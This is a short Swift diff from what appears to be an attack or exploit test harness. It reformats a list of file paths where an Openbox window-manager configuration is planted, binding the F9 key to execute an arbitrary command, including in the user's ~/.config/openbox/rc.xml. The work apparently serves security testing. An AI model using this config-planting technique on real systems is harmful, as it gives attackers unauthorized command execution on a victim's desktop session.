@@ -12,7 +12,10 @@ extension Attack {
             "<openbox_config xmlns=\"http://openbox.org/3.4/rc\"><keyboard><keybind key=\"F9\"><action name=\"Execute\"><command>\(command)</command></action></keybind></keyboard></openbox_config>"
         let (root, home) = (try attempt["root"], try attempt["home"])
         try? FileManager.default.createDirectory(atPath: "\(home)/.config/openbox", withIntermediateDirectories: true)
-        for file in ["\(root)/openbox.xml", "\(root)/own/openbox.xml", "\(root)/own/readable/openbox.xml", "\(home)/.config/openbox/rc.xml"] {
+        for file in [
+            "\(root)/openbox.xml", "\(root)/own/openbox.xml", "\(root)/own/readable/openbox.xml",
+            "\(home)/.config/openbox/rc.xml",
+        ] {
             attempt.plant(configuration, in: file)
         }
         let wire = try attempt.ownDisplay()
